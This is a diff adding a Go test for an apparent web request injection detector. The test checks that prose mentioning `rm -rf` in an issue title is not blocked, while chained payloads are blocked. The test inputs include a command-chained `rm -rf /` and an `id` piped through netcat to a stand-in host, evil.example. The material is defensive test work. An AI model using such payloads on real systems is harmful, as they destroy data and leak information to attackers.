@@ -122,3 +122,23 @@ func TestXSSFamilyBoundaries(t *testing.T) {
 		{"xxe-external-entity", get("/g", "User-Agent", "foo!ENTITY % bar SYSTEM"), get("/g", "User-Agent", "entity system bar")},
 	})
 }
+
+func TestMarkdownProseLowersShellConfidence(t *testing.T) {
+	d := newDetector(t, Config{})
+	prose := post("/issues", jsonCT, `{"title":"`+"`rm -rf`"+` in the cleanup script deletes too much"}`)
+	for _, f := range d.Inspect(prose, "svc") {
+		if (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85 {
+			t.Errorf("markdown prose blocked: %+v", f)
+		}
+	}
+	// The same command chained, or substituted without prose around it, still blocks.
+	for _, body := range []string{`{"title":"x; ` + "`rm -rf /`" + `"}`, `{"title":"run ` + "`id`" + ` now | nc evil.example 4444 please"}`} {
+		blocked := false
+		for _, f := range d.Inspect(post("/issues", jsonCT, body), "svc") {
+			blocked = blocked || (f.Class == "rce" || f.Class == "cmdi") && f.Confidence >= 85
+		}
+		if !blocked {
+			t.Errorf("not blocked: %s", body)
+		}
+	}
+}
